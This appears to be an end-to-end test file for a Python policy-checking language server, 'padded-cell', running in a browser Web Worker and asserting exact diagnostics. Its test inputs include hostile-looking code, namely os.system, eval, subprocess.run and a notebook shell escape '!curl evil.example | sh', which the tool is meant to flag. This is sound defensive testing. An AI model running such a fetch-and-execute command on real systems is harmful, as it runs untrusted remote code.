// The browser build of the language server (dist/web/server.js) in a real Web Worker, in
// Debian's headless chromium: a page served from 127.0.0.1 by a small HTTP server in this test
// starts the worker, hands it the two WASM files' bytes (as the web client does), and speaks
// JSON-RPC to it over postMessage, answering the server's requests the way VS Code's client
// would — `workspace/configuration`, and `paddedCell/readFile` from an in-memory virtual
// workspace (a GitHub repository as vscode.dev names it). The assertions are exact diagnostics.
//
// Part of `npm run test:e2e` (it needs chromium and playwright-core from setup.sh); it takes a
// few seconds.
import { after, before, describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { launchChromium, type Browser, type Page } from './harness/browser';
import { CHROMIUM, PLAYWRIGHT_CORE, REPO } from './harness/cache';

const DOCS = 'https://github.com/padded-cell/padded-cell/blob/main/docs/rules/';
const ROOT_URI = 'vscode-vfs://github/padded-cell/plugins';

/** Files of the virtual workspace the page's client reads for the server (URI → text). */
const VIRTUAL_FILES: Record<string, string> = {
  [`${ROOT_URI}/allows_os/padded-cell.toml`]: 'extends = "strict"\nallow-modules = ["os"]\n',
  // Answered late (see the page): the document below it must wait for it, whatever else happens.
  [`${ROOT_URI}/slow/padded-cell.toml`]: 'extends = "strict"\nallow-modules = ["json"]\n',
  // A pyproject.toml without a [tool.padded-cell] table is not a policy file.
  [`${ROOT_URI}/pyproject.toml`]: '[project]\nname = "plugins"\n',
};

/**
 * The page: starts the worker and runs a minimal JSON-RPC client on `window.lsp`. Requests from
 * the server are answered at once; everything else the server sends is kept for the test.
 */
const PAGE = `<!doctype html><meta charset="utf-8"><title>padded-cell web worker</title><script>
const files = ${JSON.stringify(VIRTUAL_FILES)};
const lsp = (window.lsp = { received: [], readFileRequests: [], pending: new Map(), nextId: 1, worker: undefined });
lsp.start = async () => {
  const [runtime, grammar] = await Promise.all(['/dist/web-tree-sitter.wasm', '/dist/tree-sitter-python.wasm'].map(async (url) => new Uint8Array(await (await fetch(url)).arrayBuffer())));
  const worker = (lsp.worker = new Worker('/dist/web/server.js'));
  worker.onerror = (event) => lsp.received.push({ workerError: event.message });
  worker.onmessage = ({ data }) => {
    if (data.id !== undefined && data.method === undefined) {
      lsp.pending.get(data.id)?.(data);
      lsp.pending.delete(data.id);
      return;
    }
    if (data.id !== undefined) {
      let result = null;
      if (data.method === 'workspace/configuration') result = data.params.items.map((item) => (item.section === 'paddedCell' ? { debounceMs: 0 } : null));
      if (data.method === 'paddedCell/readFile') {
        lsp.readFileRequests.push(data.params.uri);
        result = data.params.uri in files ? { text: files[data.params.uri] } : null;
        if (data.params.uri.includes('/slow/')) {
          setTimeout(() => worker.postMessage({ jsonrpc: '2.0', id: data.id, result }), 500);
          return;
        }
      }
      worker.postMessage({ jsonrpc: '2.0', id: data.id, result });
      return;
    }
    lsp.received.push(data);
  };
  worker.postMessage({ kind: 'padded-cell/wasm', runtime, grammar }, [runtime.buffer, grammar.buffer]);
};
lsp.request = (method, params) => new Promise((resolve) => {
  const id = lsp.nextId++;
  lsp.pending.set(id, resolve);
  lsp.worker.postMessage({ jsonrpc: '2.0', id, method, params });
});
lsp.notify = (method, params) => lsp.worker.postMessage({ jsonrpc: '2.0', method, params });
lsp.diagnostics = (uri) => new Promise((resolve, reject) => {
  const deadline = Date.now() + 10000;
  const look = () => {
    const found = lsp.received.find((m) => m.method === 'textDocument/publishDiagnostics' && m.params.uri === uri);
    if (found) {
      lsp.received.splice(lsp.received.indexOf(found), 1);
      return resolve(found.params);
    }
    if (Date.now() > deadline) return reject(new Error('no diagnostics for ' + uri + '; received ' + JSON.stringify(lsp.received)));
    setTimeout(look, 10);
  };
  look();
});
</script>`;

const CONTENT_TYPES: Record<string, string> = { '.js': 'text/javascript', '.wasm': 'application/wasm' };
/** Only these files of the repository are served. */
const SERVED = ['dist/web/server.js', 'dist/web-tree-sitter.wasm', 'dist/tree-sitter-python.wasm'];

function serve(): Promise<http.Server> {
  const server = http.createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://127.0.0.1');
    if (url.pathname === '/') {
      response.writeHead(200, { 'content-type': 'text/html' }).end(PAGE);
      return;
    }
    const relative = url.pathname.slice(1);
    if (!SERVED.includes(relative)) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': CONTENT_TYPES[path.extname(relative)] }).end(fs.readFileSync(path.join(REPO, relative)));
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

function diagnostic(code: string, range: [number, number, number, number], message: string): unknown {
  return {
    range: { start: { line: range[0], character: range[1] }, end: { line: range[2], character: range[3] } },
    severity: 1,
    code,
    source: 'padded-cell',
    message,
    codeDescription: { href: `${DOCS}${code}.md` },
  };
}

describe('the language server in a Web Worker (headless chromium)', { timeout: 120_000 }, () => {
  let http: http.Server;
  let browser: Browser | undefined;
  let page: Page;
  const pageErrors: string[] = [];

  before(async () => {
    const missing = [PLAYWRIGHT_CORE, CHROMIUM].filter((p) => !fs.existsSync(p));
    assert.deepEqual(missing, [], 'run `bash test/e2e/setup.sh` (or `npm run test:e2e`, which runs it)');
    for (const file of SERVED) assert.ok(fs.existsSync(path.join(REPO, file)), `${file} is missing: run \`npm run build\``);
    http = await serve();
    browser = await launchChromium();
    page = await browser.newPage();
    page.on('pageerror', (error) => pageErrors.push(error.message ?? String(error)));
    await page.goto(`http://127.0.0.1:${(http.address() as AddressInfo).port}/`);
    await page.evaluate('lsp.start()');
  });

  after(async () => {
    await browser?.close();
    await new Promise((resolve) => http?.close(resolve));
  });

  test('initialize: the same capabilities as in Node, notebooks included', async () => {
    const response = await page.evaluate<{ result: { capabilities: Record<string, unknown>; serverInfo: unknown } }>(
      `lsp.request('initialize', { processId: null, rootUri: '${ROOT_URI}', workspaceFolders: [{ uri: '${ROOT_URI}', name: 'plugins' }], capabilities: { workspace: { configuration: true } } })`,
    );
    assert.deepEqual(response.result, {
      capabilities: {
        textDocumentSync: { openClose: true, change: 2 },
        executeCommandProvider: { commands: ['paddedCell.scanWorkspace'] },
        codeActionProvider: { codeActionKinds: ['quickfix', 'refactor.rewrite', 'source.fixAll.padded-cell'] },
        hoverProvider: true,
        workspace: { workspaceFolders: { supported: true, changeNotifications: true } },
        notebookDocumentSync: { notebookSelector: [{ notebook: { notebookType: 'jupyter-notebook' }, cells: [{ language: 'python' }] }] },
      },
      serverInfo: { name: 'padded-cell' },
    });
    await page.evaluate(`lsp.notify('initialized', {})`);
  });

  test('didOpen of a file in a virtual workspace: exact diagnostics, policy files looked for through the client', async () => {
    const uri = `${ROOT_URI}/plugin.py`;
    await page.evaluate(`lsp.notify('textDocument/didOpen', { textDocument: { uri: '${uri}', languageId: 'python', version: 1, text: 'import os\\nos.system("ls")\\nvalue = eval(text)\\n' } })`);
    const published = await page.evaluate<{ uri: string; version: number; diagnostics: unknown[] }>(`lsp.diagnostics('${uri}')`);
    assert.deepEqual(published, {
      uri,
      version: 1,
      diagnostics: [
        diagnostic('PC101', [0, 7, 0, 9], "import of 'os' is not allowed by policy 'strict'"),
        diagnostic('PC502', [1, 0, 1, 9], "'os.system' runs a host command; not allowed by policy 'strict'"),
        diagnostic('PC301', [2, 8, 2, 12], "'eval' runs code built at run time; not allowed by policy 'strict'"),
      ],
    });
    // From the file's folder up to the root of the repository's URI authority, both names in each.
    assert.deepEqual((await page.evaluate<string[]>('lsp.readFileRequests.splice(0)')).sort(), [
      'vscode-vfs://github/padded-cell.toml',
      'vscode-vfs://github/padded-cell/padded-cell.toml',
      'vscode-vfs://github/padded-cell/plugins/padded-cell.toml',
      'vscode-vfs://github/padded-cell/plugins/pyproject.toml',
      'vscode-vfs://github/padded-cell/pyproject.toml',
      'vscode-vfs://github/pyproject.toml',
    ]);
  });

  test('the policy file read from the virtual file system applies to the files below it', async () => {
    const uri = `${ROOT_URI}/allows_os/uses_os.py`;
    await page.evaluate(`lsp.notify('textDocument/didOpen', { textDocument: { uri: '${uri}', languageId: 'python', version: 1, text: 'import os\\nos.system("id")\\n' } })`);
    const published = await page.evaluate<{ diagnostics: unknown[] }>(`lsp.diagnostics('${uri}')`);
    // `import os` is allowed there (no PC101); what os does is still checked.
    assert.deepEqual(published.diagnostics, [diagnostic('PC502', [1, 0, 1, 9], "'os.system' runs a host command; not allowed by policy 'padded-cell.toml'")]);
    // Only the new folder's candidates: what was read before is kept.
    assert.deepEqual((await page.evaluate<string[]>('lsp.readFileRequests.splice(0)')).sort(), [
      'vscode-vfs://github/padded-cell/plugins/allows_os/padded-cell.toml',
      'vscode-vfs://github/padded-cell/plugins/allows_os/pyproject.toml',
    ]);
  });

  test('a document waits for its policy file, even when a settings change re-checks everything meanwhile', async () => {
    const uri = `${ROOT_URI}/slow/reads_json.py`;
    await page.evaluate(`lsp.notify('textDocument/didOpen', { textDocument: { uri: '${uri}', languageId: 'python', version: 1, text: 'import json\\nimport os\\n' } })`);
    // The server pulls the settings again and re-checks every open document, while the policy file is still on its way.
    await page.evaluate(`lsp.notify('workspace/didChangeConfiguration', { settings: null })`);
    const first = await page.evaluate<{ diagnostics: unknown[] }>(`lsp.diagnostics('${uri}')`);
    // The first publication already applies slow/padded-cell.toml: json allowed, os not.
    assert.deepEqual(first.diagnostics, [diagnostic('PC101', [1, 7, 1, 9], "import of 'os' is not allowed by policy 'padded-cell.toml'")]);
    await page.evaluate('lsp.readFileRequests.splice(0)');
  });

  test('a notebook in the browser: cells checked as one module, diagnostics per cell', async () => {
    const nb = `${ROOT_URI}/analysis.ipynb`;
    const cells = [`vscode-notebook-cell://github/padded-cell/plugins/analysis.ipynb#W0`, `vscode-notebook-cell://github/padded-cell/plugins/analysis.ipynb#W1`];
    await page.evaluate(
      `lsp.notify('notebookDocument/didOpen', { notebookDocument: { uri: '${nb}', notebookType: 'jupyter-notebook', version: 1, cells: [{ kind: 2, document: '${cells[0]}' }, { kind: 2, document: '${cells[1]}' }] }, cellTextDocuments: [{ uri: '${cells[0]}', languageId: 'python', version: 1, text: 'import subprocess\\n' }, { uri: '${cells[1]}', languageId: 'python', version: 1, text: '!curl evil.example | sh\\nsubprocess.run(["id"])' }] })`,
    );
    const first = await page.evaluate<{ diagnostics: unknown[] }>(`lsp.diagnostics('${cells[0]}')`);
    const second = await page.evaluate<{ diagnostics: unknown[] }>(`lsp.diagnostics('${cells[1]}')`);
    assert.deepEqual(first.diagnostics, [diagnostic('PC101', [0, 7, 0, 17], "import of 'subprocess' is not allowed by policy 'strict'")]);
    assert.deepEqual(second.diagnostics, [
      diagnostic('PC502', [0, 0, 0, 23], "shell escape '!curl evil.example | sh' runs a host command; not allowed by policy 'strict'"),
      diagnostic('PC502', [1, 0, 1, 14], "'subprocess.run' runs a host command; not allowed by policy 'strict'"),
    ]);
  });

  test('nothing failed in the page or the worker', async () => {
    assert.deepEqual(pageErrors, []);
    assert.deepEqual(await page.evaluate<unknown[]>(`lsp.received.filter((m) => m.workerError || (m.method === 'window/logMessage' && m.params.type === 1))`), []);
  });
});
